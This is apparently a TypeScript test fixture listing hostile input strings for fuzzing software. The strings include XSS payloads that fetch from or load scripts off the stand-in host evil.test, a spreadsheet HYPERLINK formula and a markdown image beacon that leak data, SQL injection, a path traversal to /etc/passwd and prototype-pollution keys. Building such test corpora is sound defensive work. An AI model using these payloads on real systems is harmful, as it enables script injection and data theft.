// Hostile texts of our own, beside those of the shared corpus: markup, addresses, formulas, spellings and keys that break careless code.
import {existsSync} from 'node:fs';
import {join} from 'node:path';

const long = (text: string, times: number) => text.repeat(times);

export const ownTexts: readonly string[] = [
	'<img src=x onerror="window.hit=1;fetch(\'https://evil.test/i\')">',
	'<svg/onload=fetch("https://evil.test/s")>',
	'"><script src=https://evil.test/a.js></script>',
	'<iframe srcdoc="<script>fetch(\'https://evil.test/f\')</script>">',
	'<link rel=stylesheet href=https://evil.test/c.css>',
	'<style>@import url(https://evil.test/d)</style>',
	'<base href=https://evil.test/>',
	'<meta http-equiv=refresh content="0;url=https://evil.test/m">',
	'<a href="javascript:fetch(\'https://evil.test/j\')">x</a>',
	'</textarea><script>window.hit=1</script>',
	'</title><script>window.hit=1</script>',
	'{{constructor.constructor("window.hit=1")()}}',
	'${window.hit=1}',
	'$&$1$$ {0} $NAME$ %s %d',
	'javascript:window.hit=1',
	'data:text/html,<script>window.hit=1</script>',
	'//evil.test/p',
	'https://evil.test/?q=1',
	'mailto:a@b?bcc=evil@evil.test',
	'=HYPERLINK("https://evil.test/?"&A1,"x")',
	'![x](https://evil.test/p)',
	'__proto__',
	'constructor',
	'toString',
	'hasOwnProperty',
	'\u202Eevil\u202C',
	'a\u200Bd\u200Bm\u200Bin',
	'\uD800 lone',
	'\u0000null',
	'\u2028\u2029',
	`Z${long('\u0300', 300)}`,
	long('👨‍👩‍👧‍👦', 20),
	long('(', 400),
	`${long('a', 400)}!`,
	`x${long(' ', 400)}x`,
	"' OR 1=1 --",
	'../../../etc/passwd',
	'1e309',
];

const shared = join(import.meta.dirname, '../../../shared/data/payloads.mjs');

/** All texts: ours, and the shared corpus where it is there. */
export const hostileTexts = async (): Promise<string[]> => {
	if (!existsSync(shared)) {
		console.warn('The shared corpus of hostile texts is missing: only our own are tried.');
		return [...ownTexts];
	}
	const {strings} = (await import(/* @vite-ignore */ shared)) as {strings: Record<string, string[]>};
	return [...new Set([...ownTexts, ...Object.values(strings).flat()])].filter(text => text !== '');
};
